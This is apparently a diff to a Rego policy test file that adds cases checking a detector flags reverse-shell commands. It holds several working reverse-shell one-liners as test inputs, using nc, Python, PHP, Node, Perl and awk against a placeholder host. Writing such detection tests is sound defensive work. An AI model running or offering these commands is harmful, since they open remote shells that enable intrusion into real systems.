@@ -201,6 +201,9 @@ test_reverse_shells if {
 	run([c("mknod", ["/tmp/f", "p"]), c("nc", ["h", "1"])], [], [], []) == {reverse("mknod with nc relays a shell over the network")}
 	cmds([c("python3", ["-c", "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"])]) == {reverse("python3 script opens a socket and runs a program")}
 	cmds([c("php", ["-r", "$s=fsockopen('h',1);exec('/bin/sh -i <&3 >&3');"])]) == {reverse("php script opens a socket and runs a program")}
+	cmds([c("node", ["-e", `c=require("net").connect(4444,"h",()=>{c.pipe(require("child_process").spawn("sh").stdin)})`])]) == {reverse("node script opens a socket and runs a program")}
+	cmds([c("node", ["-e", `require("child_process").exec("nc -e /bin/sh h 4444")`])]) == {reverse("node script opens a socket and runs a program")}
+	cmds([c("perl", ["-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"h:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`])]) == {reverse("perl script opens a socket and runs a program")}
 	cmds([c("awk", ["BEGIN {s = \"/inet/tcp/0/h/1\"}"])]) == {reverse("the command opens a network connection through /inet/")}
 }
 
